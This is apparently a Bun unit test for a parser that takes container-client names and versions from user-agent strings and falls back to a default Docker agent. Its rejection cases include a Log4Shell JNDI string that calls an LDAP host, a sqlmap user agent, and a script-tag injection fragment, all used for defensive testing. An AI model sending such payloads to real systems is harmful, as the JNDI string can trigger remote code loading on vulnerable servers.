import { describe, expect, test } from 'bun:test'
import { hostAgentOf } from './host-agent.ts'

describe('a host is asked', () => {
  test.each([
    ['docker/28.5.2 go/go1.24.8 git-commit/x UpstreamClient(Docker-Client/28.5.2 \\(linux\\))', 'docker/28.5.2'],
    ['containerd/v2.1.0', 'containerd/v2.1.0'],
    ['containerd/1.7.24~ds1', 'containerd/1.7.24~ds1'],
    ['containers/5.30.1 (github.com/containers/image)', 'containers/5.30.1'],
    ['Buildah/1.28.2', 'Buildah/1.28.2'],
    ['go-containerregistry/v0.20.1 (linux)', 'go-containerregistry/v0.20.1'],
  ])('in the name of %s', (agent, asked) => expect(hostAgentOf(agent)).toBe(asked))

  test.each([
    undefined,
    '',
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    `docker/1${'0'.repeat(9_000)}`,
    '${jndi:ldap://198.51.100.1/a}',
    'docker/<script>',
    'x docker/28.5.2',
  ])('as docker for %s', (agent) => expect(hostAgentOf(agent)).toStartWith('docker/28.5.2 go/'))
})
